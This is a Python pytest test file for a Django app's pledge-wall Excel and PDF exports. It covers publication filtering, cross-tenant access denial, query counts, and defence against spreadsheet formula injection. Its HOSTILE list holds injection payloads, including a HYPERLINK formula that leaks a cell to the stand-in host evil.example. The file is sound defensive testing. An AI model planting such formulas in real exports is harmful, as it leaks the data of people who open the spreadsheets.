import io
import zipfile
from datetime import date

import pytest
from django.urls import reverse

from chuangxian.exports.tests.helpers import rows, sheet
from chuangxian.orgs.models import Member
from chuangxian.orgs.tests.factories import MemberFactory
from chuangxian.pledges.models import Pledge, PledgeStatus
from chuangxian.pledges.services import pledge_review
from chuangxian.pledges.tests.test_views import _many_pledges

pytestmark = pytest.mark.usefixtures("phase2")


def test_wall_excel_lists_published_pledges_only(client, tree, personas, campaign, submitted):
    _many_pledges(tree, campaign, 3, PledgeStatus.PUBLISHED)
    client.force_login(personas.chair)
    response = client.get(reverse("pledges:wall_xlsx", args=[tree.college.pk]))
    assert response.status_code == 200
    listed = rows(response.content)
    assert len(listed) == 3  # the submitted pledge is still under review
    assert {row[4] for row in listed} == {"承诺0", "承诺1", "承诺2"}
    first = sheet(response.content)[3]
    assert first[1].number_format == "@" and isinstance(first[1].value, str)  # staff number as text
    assert first[5].number_format == "yyyy-mm-dd"
    assert first[4].alignment.wrap_text and first[4].alignment.vertical == "top"
    pledge_review(pledge=submitted, approve=True, actor=personas.chair)
    response = client.get(reverse("pledges:wall_xlsx", args=[tree.college.pk]))
    assert len(rows(response.content)) == 4


def test_wall_pdf_is_a_pdf(client, tree, personas, campaign, submitted):
    pledge_review(pledge=submitted, approve=True, actor=personas.chair)
    client.force_login(personas.member)
    response = client.get(reverse("pledges:wall_pdf", args=[tree.group.pk]))
    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")


@pytest.mark.parametrize("name", ["pledges:wall_xlsx", "pledges:wall_pdf"])
def test_other_units_and_tenants_cannot_export(client, tree, personas, campaign, name):
    client.force_login(personas.sibling_chair)
    assert client.get(reverse(name, args=[tree.college.pk])).status_code == 404
    client.force_login(personas.other_office)
    assert client.get(reverse(name, args=[tree.college.pk])).status_code == 404


@pytest.mark.parametrize("n", [10, 300])
def test_excel_query_count_does_not_grow(client, tree, personas, campaign, django_assert_max_num_queries, n):
    _many_pledges(tree, campaign, n, PledgeStatus.PUBLISHED)
    client.force_login(personas.chair)
    # The export service re-fetches the unit and campaign it checks and audits the export: 14.
    with django_assert_max_num_queries(14):
        response = client.get(reverse("pledges:wall_xlsx", args=[tree.college.pk]))
    assert response.status_code == 200


# Text a member controls, as Excel would run it if it were stored as a formula (OWASP CSV injection).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
]


def test_wall_excel_writes_formula_like_pledges_and_names_as_plain_text(client, tree, personas, campaign):
    members = MemberFactory.create_batch(len(HOSTILE), unit=tree.group)
    for member, text in zip(members, HOSTILE, strict=True):
        Member.objects.filter(pk=member.pk).update(name=text)
    Pledge.objects.bulk_create(
        Pledge(
            tenant_id=tree.tenant.pk,
            campaign=campaign,
            member=member,
            unit=tree.group,
            content=text,
            due_on=date(2011, 7, 1),
            check_standard=text,
            status=PledgeStatus.PUBLISHED,
        )
        for member, text in zip(members, HOSTILE, strict=True)
    )
    client.force_login(personas.chair)
    response = client.get(reverse("pledges:wall_xlsx", args=[tree.college.pk]))
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    table = sheet(response.content).iter_rows(min_row=3)
    written = {row[4].value: (row[2], row[4], row[6]) for row in table}
    assert set(written) == set(HOSTILE)
    for text, cells in written.items():
        assert [(cell.value, cell.data_type) for cell in cells] == [(text, "s")] * 3
